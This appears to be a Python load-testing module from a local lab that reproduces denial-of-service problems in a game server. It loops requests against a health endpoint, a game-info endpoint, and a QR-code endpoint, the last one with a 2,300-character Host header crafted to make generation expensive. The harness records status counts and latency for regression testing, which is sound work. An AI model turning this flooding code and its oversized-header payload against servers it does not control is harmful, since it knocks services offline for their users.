"""The attacks that loop on one HTTP request from one address (127.0.0.1), each loop
sending the next request as soon as the last was answered (after a refusal, 0.1 s
later: a refusal is cheap, and a loop that spins on it measures the client).  With
several server processes, loop ``i`` goes to process ``i mod n`` (half each of two).

- ``qr``: ``GET /api/games/{victim}/qr.svg`` with a ``Host`` header of
  ``--host-length`` characters (2,300: a link that long makes the largest QR codes);
- ``health``: ``GET /api/health``;
- ``info``: ``GET /api/games/{victim}`` (on PostgreSQL each used to load the table
  again under its lock).

Each counts the answers by status (and by class: 2xx, 4xx, 5xx, no answer), the
bytes read, and the mean time of an answer.
"""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from typing import Any

import httpx

from lab.pressure.observer import ATTACKER, http_client

clock = time.monotonic
#: the Host header of the ``qr`` attack: as long as the issue's, and a name (letters,
#: digits, dots and dashes) that no proxy would refuse for its form
HOST_LENGTH = 2300


def long_host(length: int) -> str:
    """A host name of exactly ``length`` characters: labels of at most 63 letters,
    a dot after each 63rd, never a dot at the end."""
    if length < 1:
        raise ValueError(f"a host name has at least 1 character, not {length}")
    name = "".join("." if i % 64 == 63 else "h" for i in range(length))
    if name.endswith("."):  # (the last label a letter long)
        name = name[:-2] + ".h"
    return name


def status_class(status: str) -> str:
    """``"200"`` -> ``"2xx"``; anything not a number (an exception's name): no answer."""
    return f"{status[0]}xx" if status.isdigit() else "no answer"


async def loop_on(
    urls: list[str], path: str, seconds: float, loops: int,
    headers: dict[str, str] | None = None, timeout: float = 30.0,
) -> dict[str, Any]:  # fmt: skip
    """``loops`` loops on ``GET path`` for ``seconds``; what they got."""
    deadline = clock() + seconds
    statuses: Counter[str] = Counter()
    durations: list[float] = []
    received = [0]

    async def loop(client: httpx.AsyncClient, url: str) -> None:
        while clock() < deadline:
            started = clock()
            try:
                reply = await client.get(url + path, headers=headers)
            except httpx.HTTPError as exc:
                statuses[type(exc).__name__] += 1
                await asyncio.sleep(0.1)
                continue
            statuses[str(reply.status_code)] += 1
            received[0] += len(reply.content)
            durations.append(clock() - started)
            if reply.status_code >= 400:
                await asyncio.sleep(0.1)  # a refusal: do not spin

    async with http_client(ATTACKER, timeout, connections=loops) as client:
        tasks = [
            asyncio.create_task(loop(client, urls[i % len(urls)])) for i in range(loops)
        ]  # fmt: skip
        await asyncio.sleep(max(0.0, deadline - clock()))
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    classes: Counter[str] = Counter()
    for status, n in statuses.items():
        classes[status_class(status)] += n
    return {
        "loops": loops,
        "servers": len(urls),
        "path": path,
        "requests": sum(statuses.values()),
        "statuses": dict(statuses),
        "classes": dict(classes),
        "mb_received": round(received[0] / 1e6, 2),
        "mean_ms": round(1000 * sum(durations) / len(durations), 1) if durations else None,
    }


async def qr(
    urls: list[str], game_id: str, seconds: float, loops: int, host_length: int
) -> dict[str, Any]:
    headers = {"Host": long_host(host_length)}
    result = await loop_on(urls, f"/api/games/{game_id}/qr.svg", seconds, loops, headers)
    return {**result, "host_length": host_length}


async def health(urls: list[str], seconds: float, loops: int) -> dict[str, Any]:
    return await loop_on(urls, "/api/health", seconds, loops)


async def info(urls: list[str], game_id: str, seconds: float, loops: int) -> dict[str, Any]:
    return await loop_on(urls, f"/api/games/{game_id}", seconds, loops)
